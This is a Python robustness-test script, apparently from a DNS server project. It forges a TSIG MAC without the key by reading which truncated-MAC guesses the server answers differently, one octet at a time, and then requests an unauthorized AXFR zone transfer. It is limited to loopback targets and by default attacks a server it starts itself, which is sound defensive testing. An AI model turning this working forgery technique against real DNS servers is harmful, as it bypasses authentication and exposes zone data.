#!/usr/bin/env python3
"""TSIG forgery without the key: recover an AXFR request's MAC one octet at a time from
the answers to truncated MACs (a server that compares a prefix before checking the MAC's
length tells a right prefix from a wrong one), then ask for the zone over TCP with it.

    python robustness/tsig_forge.py                        # a server of its own, random key
    python robustness/tsig_forge.py --server 127.0.0.1:5353 --key-name xfr-key

Loopback targets only; bounded by --max-queries and --time-limit. Prints one JSON line:
recovered (a whole accepted MAC), octets, axfr (true if the zone came back), axfr_records,
queries, seconds, and the answers seen to the first octet's 256 guesses.
"""

from __future__ import annotations

import argparse
import base64
import ipaddress
import json
import secrets
import socket
import struct
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

import dns.message
import dns.rcode
import dns.rdatatype

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from robustness.packets import wire_name  # noqa: E402

TSIG, AXFR, CLASS_IN, CLASS_ANY = 250, 252, 1, 255
TSIG_ERRORS = {0: "NOERROR", 16: "BADSIG", 17: "BADKEY", 18: "BADTIME", 22: "BADTRUNC"}
FUDGE = 65535  # the sender's choice: the forged request would be replayable for 18 hours
MAX_MAC = 64  # octets (hmac-sha512)


def axfr_request(zone: str, key_name: str, algorithm: str, mac: bytes, qid: int, orig_id: int,
                 time_signed: int, fudge: int = FUDGE) -> bytes:
    """An AXFR query for `zone` carrying a TSIG RR with `mac` (any length)."""
    head = struct.pack("!HHHHHH", qid, 0, 1, 0, 0, 1)
    question = wire_name(zone) + struct.pack("!HH", AXFR, CLASS_IN)
    rdata = (wire_name(algorithm) + struct.pack("!HIHH", time_signed >> 32, time_signed & 0xFFFFFFFF,
                                                fudge, len(mac))
             + mac + struct.pack("!HHH", orig_id, 0, 0))
    return head + question + wire_name(key_name) + struct.pack("!HHIH", TSIG, CLASS_ANY, 0,
                                                               len(rdata)) + rdata


def verdict(resp: bytes | None) -> str:
    """RCODE/TSIG-error of a response ("-" when none came), e.g. NOTAUTH/BADSIG."""
    if resp is None:
        return "-"
    try:
        m = dns.message.from_wire(resp, keyring=False)
    except Exception as e:  # any unparsable answer is one more kind of answer
        return f"unparsable:{type(e).__name__}"
    tsig = TSIG_ERRORS.get(m.tsig_error or 0, str(m.tsig_error)) if m.had_tsig else "none"
    return f"{dns.rcode.to_text(m.rcode())}/{tsig}"


def accepted(resp: bytes | None) -> bool:
    """A response signed with a MAC (the request verified)."""
    if resp is None:
        return False
    try:
        m = dns.message.from_wire(resp, keyring=False)
    except Exception:
        return False
    return bool(m.had_tsig and m.tsig_error == 0 and m.tsig and m.tsig[0].mac)


def exchange(sock: socket.socket, addr: tuple[str, int], msgs: list[bytes], first_id: int,
             timeout: float) -> list[bytes | None]:
    """Send every message (IDs first_id, first_id + 1, ...) over UDP; the response to each, or None."""
    out: list[bytes | None] = [None] * len(msgs)
    for m in msgs:
        sock.sendto(m, addr)
    deadline = time.monotonic() + timeout
    while any(r is None for r in out) and time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data = sock.recv(65535)
        except TimeoutError:
            break
        if len(data) >= 2:
            i = struct.unpack_from("!H", data)[0] - first_id
            if 0 <= i < len(out):
                out[i] = data
    return out


def transfer(addr: tuple[str, int], msg: bytes, timeout: float) -> tuple[bool, int]:
    """(the zone came back, answer records received) for an AXFR request over TCP."""
    records, soas, ok = 0, 0, False
    deadline = time.monotonic() + timeout
    with socket.create_connection(addr, timeout=timeout) as s:
        s.sendall(struct.pack("!H", len(msg)) + msg)
        buf = b""
        while soas < 2 and time.monotonic() < deadline:
            try:
                chunk = s.recv(65535)
            except TimeoutError:
                break
            if not chunk:
                break
            buf += chunk
            while len(buf) >= 2 and len(buf) >= 2 + struct.unpack_from("!H", buf)[0]:
                n = struct.unpack_from("!H", buf)[0]
                m = dns.message.from_wire(buf[2:2 + n], keyring=False, one_rr_per_rrset=True)
                buf = buf[2 + n:]
                if m.rcode() != dns.rcode.NOERROR:
                    return ok, records
                for rrset in m.answer:
                    records += len(rrset)
                    soas += rrset.rdtype == dns.rdatatype.SOA
                ok = soas >= 1
    return ok, records


def attack(addr: tuple[str, int], zone: str, key_name: str, algorithm: str, max_queries: int,
           time_limit: float) -> dict[str, object]:
    """Guess the MAC octet by octet: at each position, the one guess answered differently
    from the 255 others is taken as the right octet; stop when none (or several) stand out."""
    t0 = time.monotonic()
    orig_id, now = secrets.randbelow(65536), int(time.time())
    mac, queries, recovered = b"", 0, False
    first: Counter[str] = Counter()
    with socket.socket(socket.AF_INET6 if ":" in addr[0] else socket.AF_INET, socket.SOCK_DGRAM) as s:
        while (len(mac) < MAX_MAC and queries + 256 <= max_queries
               and time.monotonic() - t0 < time_limit):
            guesses = [mac + bytes((b,)) for b in range(256)]
            msgs = [axfr_request(zone, key_name, algorithm, g, i, orig_id, now)
                    for i, g in enumerate(guesses)]
            resps: list[bytes | None] = []
            for lo in range(0, 256, 64):  # a window a socket buffer surely holds
                resps += exchange(s, addr, msgs[lo:lo + 64], lo, 1.0)
            queries += 256
            kinds = [verdict(r) for r in resps]
            if not mac:
                first = Counter(kinds)
            counts = Counter(kinds)
            odd = [i for i, k in enumerate(kinds) if counts[k] == 1]
            if len(counts) != 2 or len(odd) != 1:
                break  # no octet stands out: the answers say nothing about the MAC
            mac = guesses[odd[0]]
            if accepted(resps[odd[0]]):
                recovered = True
                break
    axfr, records = False, 0
    if recovered:
        axfr, records = transfer(addr, axfr_request(zone, key_name, algorithm, mac, orig_id, orig_id,
                                                    now), 5.0)
    return {"recovered": recovered, "octets": len(mac), "axfr": axfr, "axfr_records": records,
            "queries": queries, "seconds": round(time.monotonic() - t0, 3),
            "first_octet_answers": dict(first)}


def loopback(s: str) -> tuple[str, int]:
    host, sep, port = s.rpartition(":")
    host = host.strip("[]")
    try:
        if not sep or not ipaddress.ip_address(host).is_loopback:
            raise ValueError
        return host, int(port)
    except ValueError:
        raise argparse.ArgumentTypeError(f"expected a loopback HOST:PORT, got {s!r}") from None


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--server", type=loopback, help="target (default: start one with a random key)")
    ap.add_argument("--zone", default="clusterset.local")
    ap.add_argument("--key-name", default="xfr-key", help="the key's name (not secret)")
    ap.add_argument("--algorithm", default="hmac-sha256")
    ap.add_argument("--max-queries", type=int, default=16_384)
    ap.add_argument("--time-limit", type=float, default=60.0, help="seconds")
    args = ap.parse_args()
    if args.server:
        result = attack(args.server, args.zone, args.key_name, args.algorithm, args.max_queries,
                        args.time_limit)
    else:
        sys.path.insert(0, str(REPO / "tests"))
        from support.helpers import EXAMPLE, run_server

        secret = base64.b64encode(secrets.token_bytes(32)).decode()
        with tempfile.TemporaryDirectory() as tmp, run_server(
                ["--manifests", str(EXAMPLE), "--allow-transfer", "127.0.0.0/8",
                 "--tsig-key", f"{args.key_name}:{args.algorithm}:{secret}"], Path(tmp)) as srv:
            result = attack(srv.addr, args.zone, args.key_name, args.algorithm, args.max_queries,
                            args.time_limit)
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
